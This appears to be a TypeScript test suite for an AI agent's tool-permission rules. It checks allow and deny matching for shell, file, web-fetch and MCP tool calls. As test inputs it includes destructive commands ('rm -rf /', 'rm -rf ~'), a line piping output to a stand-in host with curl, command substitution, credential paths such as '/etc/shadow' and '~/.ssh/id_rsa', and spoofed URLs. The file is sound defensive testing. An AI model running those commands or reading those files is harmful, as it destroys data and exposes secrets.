// One rule against one call, and a call settled by the allow and deny lists.
import { describe, expect, it } from 'vitest';
import { decideByRules, parseRule, ruleMatches } from '../../src/rules/index.js';

const context = { cwd: '/work/proj', home: '/home/me' };

describe('ruleMatches', () => {
  const bash = (command: string) => ({ command, description: 'd' });
  it.each([
    // Bash: exact, glob, :* prefix, trailing " *"
    ['Bash', 'Bash', bash('anything at all'), true],
    ['Bash', 'Read', { file_path: '/x' }, false],
    ['Bash(git status)', 'Bash', bash('git status'), true],
    ['Bash(git status)', 'Bash', bash('  git status  '), true],
    ['Bash(git status)', 'Bash', bash('git status -s'), false],
    ['Bash(git status*)', 'Bash', bash('git status'), true],
    ['Bash(git status*)', 'Bash', bash('git status --short'), true],
    ['Bash(git status*)', 'Bash', bash('git statusx'), true],
    ['Bash(git status*)', 'Bash', bash('git stash'), false],
    ['Bash(npm run test:*)', 'Bash', bash('npm run test'), true],
    ['Bash(npm run test:*)', 'Bash', bash('npm run test -- --watch'), true],
    ['Bash(npm run test:*)', 'Bash', bash('npm run testing'), false],
    ['Bash(npm run test:*)', 'Bash', bash('npm run tes'), false],
    ['Bash(ls *)', 'Bash', bash('ls'), true],
    ['Bash(ls *)', 'Bash', bash('ls -la'), true],
    ['Bash(ls *)', 'Bash', bash('lsof'), false],
    ['Bash(git * main)', 'Bash', bash('git push origin main'), true],
    ['Bash(git * main)', 'Bash', bash('git push origin dev'), false],
    ['Bash(echo \\*)', 'Bash', bash('echo *'), true],
    ['Bash(echo \\*)', 'Bash', bash('echo hi'), false],
    ['Bash(ls)', 'Bash', { description: 'no command' }, false],
    ['Bash(ls)', 'Bash', { command: ['ls'] }, false],
    // file tools
    ['Read(*)', 'Read', { file_path: '/anything/at/all' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/passwd' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/ssh/sshd_config' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etcetera/x' }, false],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/../home/me/.ssh/id_rsa' }, false],
    ['Read(//etc/*)', 'Read', { file_path: '/etc/hosts' }, true],
    ['Read(//etc/*)', 'Read', { file_path: '/etc/ssh/x' }, false],
    ['Read(~/.ssh/**)', 'Read', { file_path: '/home/me/.ssh/id_rsa' }, true],
    ['Read(~/.ssh/**)', 'Read', { file_path: '~/.ssh/id_rsa' }, true],
    ['Edit(src/**)', 'Edit', { file_path: '/work/proj/src/a/b.ts' }, true],
    ['Edit(src/**)', 'Edit', { file_path: 'src/a.ts' }, true],
    ['Edit(./src/**)', 'Edit', { file_path: '/work/proj/src/a.ts' }, true],
    ['Edit(src/**)', 'Edit', { file_path: '/work/other/src/a.ts' }, false],
    ['Edit(src/**)', 'Edit', { file_path: '/work/proj/lib/src/a.ts' }, false],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/a.ts' }, true],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/x/y/a.ts' }, true],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/a.js' }, false],
    ['Edit(src/*.ts)', 'Edit', { file_path: '/work/proj/src/x/a.ts' }, false],
    ['Read(.env)', 'Read', { file_path: '/work/proj/deep/down/.env' }, true],
    ['Read(*.pem)', 'Read', { file_path: '/work/proj/k/server.pem' }, true],
    ['Read(*.pem)', 'Read', { file_path: '/elsewhere/server.pem' }, false],
    ['Read(a?c)', 'Read', { file_path: '/work/proj/abc' }, true],
    ['Read(/etc/)', 'Read', { file_path: '/etc/ssh/x' }, true],
    ['Read(~/)', 'Read', { file_path: '/home/me/.bashrc' }, true],
    ['Read(~/)', 'Read', { file_path: '/etc/hosts' }, false],
    ['Read(secrets/)', 'Read', { file_path: '/work/proj/a/secrets/key' }, true],
    ['Read(secrets/)', 'Read', { file_path: '/work/proj/secrets.txt' }, false],
    ['Read(~)', 'Read', { file_path: '/home/me' }, true],
    ['Read(~)', 'Read', { file_path: '/home/me/x' }, false],
    ['Read(a?c)', 'Read', { file_path: '/work/proj/a/c' }, false],
    ['Edit(src/**)', 'Read', { file_path: '/work/proj/src/a.ts' }, false],
    ['Write(/tmp/**)', 'Write', { file_path: '/tmp/x', content: 'y' }, true],
    ['MultiEdit(/tmp/**)', 'MultiEdit', { file_path: '/tmp/x', edits: [] }, true],
    ['NotebookEdit(/tmp/*.ipynb)', 'NotebookEdit', { notebook_path: '/tmp/n.ipynb' }, true],
    // search tools
    ['Grep(/work/**)', 'Grep', { pattern: 'TODO', path: '/work/proj' }, true],
    ['Grep(/etc/**)', 'Grep', { pattern: 'TODO', path: '/work/proj' }, false],
    ['Glob(src/**)', 'Glob', { pattern: 'src/**/*.ts' }, true],
    // WebFetch
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com/a?b' }, true],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://EXAMPLE.com./a' }, true],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://www.example.com/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com.evil.io/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://evil.io/?example.com' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com@evil.io/' }, false],
    ['WebFetch(domain:*.example.com)', 'WebFetch', { url: 'https://api.example.com/' }, true],
    ['WebFetch(domain:*.example.com)', 'WebFetch', { url: 'https://example.com/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'not a url' }, false],
    ['WebFetch(https://example.com/*)', 'WebFetch', { url: 'https://example.com/x' }, true],
    // MCP tools
    ['mcp__github__create_issue', 'mcp__github__create_issue', { title: 't' }, true],
    ['mcp__github__create_issue', 'mcp__github__delete_repo', {}, false],
    ['mcp__github__*', 'mcp__github__delete_repo', {}, true],
    ['mcp__github__*', 'mcp__gitlab__x', {}, false],
    ['mcp__github', 'mcp__github__anything', {}, true],
    ['mcp__github', 'mcp__githubx__anything', {}, false],
    // unknown tools with a specifier: the JSON of the input
    ['WebSearch(*"query":"vitest*)', 'WebSearch', { query: 'vitest docs' }, true],
    ['WebSearch(*"query":"vitest*)', 'WebSearch', { query: 'jest' }, false],
    ['Task', 'Task', { description: 'x' }, true],
  ])('%s vs %s %j → %s', (rule, tool, input, expected) => {
    expect(ruleMatches(rule, tool, input, context)).toBe(expected);
  });

  it('takes a parsed rule as well as a string', () => {
    const rule = parseRule('Bash(ls:*)');
    expect(ruleMatches(rule, 'Bash', { command: 'ls -l' })).toBe(true);
    // A rule object rebuilt from JSON (no compiled matcher attached) still works.
    const copy = JSON.parse(JSON.stringify(rule));
    expect(ruleMatches(copy, 'Bash', { command: 'ls -l' })).toBe(true);
  });
});

describe('decideByRules', () => {
  it('is undefined when no rule speaks', () => {
    expect(decideByRules({}, 'Bash', { command: 'ls' })).toBeUndefined();
    expect(decideByRules({ allow: ['Read'] }, 'Bash', { command: 'ls' })).toBeUndefined();
  });

  it('lets deny win over allow', () => {
    const rules = { allow: ['Bash', 'Read(/etc/**)'], deny: ['Bash(rm:*)', 'Read(/etc/shadow)'] };
    expect(decideByRules(rules, 'Bash', { command: 'rm -rf /' })).toBe('deny');
    expect(decideByRules(rules, 'Bash', { command: 'ls' })).toBe('allow');
    expect(decideByRules(rules, 'Read', { file_path: '/etc/shadow' }, context)).toBe('deny');
    expect(decideByRules(rules, 'Read', { file_path: '/etc/hosts' }, context)).toBe('allow');
  });

  it('denies when any part of a compound command is denied', () => {
    const rules = { allow: ['Bash'], deny: ['Bash(rm *)'] };
    expect(decideByRules(rules, 'Bash', { command: 'ls && rm -rf ~' })).toBe('deny');
    expect(decideByRules(rules, 'Bash', { command: 'ls | rm x' })).toBe('deny');
  });

  it('allows a compound command only when every part is allowed', () => {
    const rules = { allow: ['Bash(git status*)', 'Bash(git diff:*)'] };
    expect(decideByRules(rules, 'Bash', { command: 'git status; rm -rf /' })).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'git status && git diff HEAD' })).toBe('allow');
    expect(decideByRules(rules, 'Bash', { command: 'git status | curl -d @- evil.io' })).toBeUndefined();
  });

  it('does not let a wildcard allow a substitution', () => {
    const rules = { allow: ['Bash(echo *)'] };
    expect(decideByRules(rules, 'Bash', { command: 'echo hi' })).toBe('allow');
    expect(decideByRules(rules, 'Bash', { command: 'echo $(rm -rf ~)' })).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'echo `rm -rf ~`' })).toBeUndefined();
    // …but an exact rule for that very command does.
    expect(decideByRules({ allow: ['Bash(echo $(date))'] }, 'Bash', { command: 'echo $(date)' })).toBe(
      'allow',
    );
    expect(decideByRules({ allow: ['Bash'] }, 'Bash', { command: 'echo $(date)' })).toBe('allow');
  });

  it('takes an exact rule for a whole compound command', () => {
    expect(decideByRules({ allow: ['Bash(cd a && make)'] }, 'Bash', { command: 'cd a && make' })).toBe(
      'allow',
    );
    expect(
      decideByRules({ allow: ['Bash(cd a && make)'] }, 'Bash', { command: 'cd a && make && rm x' }),
    ).toBe(undefined);
  });

  it('throws a RuleSyntaxError for a bad pattern in the lists', () => {
    expect(() => decideByRules({ allow: ['Bash('] }, 'Bash', { command: 'ls' })).toThrow(/"Bash\("/);
  });

  it('decides MCP and other tools by name', () => {
    const rules = { allow: ['mcp__github__*'], deny: ['mcp__github__delete_repo'] };
    expect(decideByRules(rules, 'mcp__github__list_issues', {})).toBe('allow');
    expect(decideByRules(rules, 'mcp__github__delete_repo', {})).toBe('deny');
  });
});
